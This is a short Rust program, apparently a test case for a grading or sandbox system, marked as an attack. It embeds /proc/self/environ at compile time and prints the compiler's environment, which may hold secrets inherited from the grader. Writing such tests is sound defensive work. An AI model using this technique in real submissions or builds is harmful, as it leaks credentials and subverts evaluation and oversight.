//! attack: includes the compiler's own environment (inherited from the grader) into its
//! program at compile time, and prints it

const ENVIRON: &[u8] = include_bytes!("/proc/self/environ");

fn main() {
    println!("ATTACK-SUCCEEDED: the compiler's environment read at compile time");
    println!("{}", String::from_utf8_lossy(ENVIRON).replace('\0', "\n"));
}
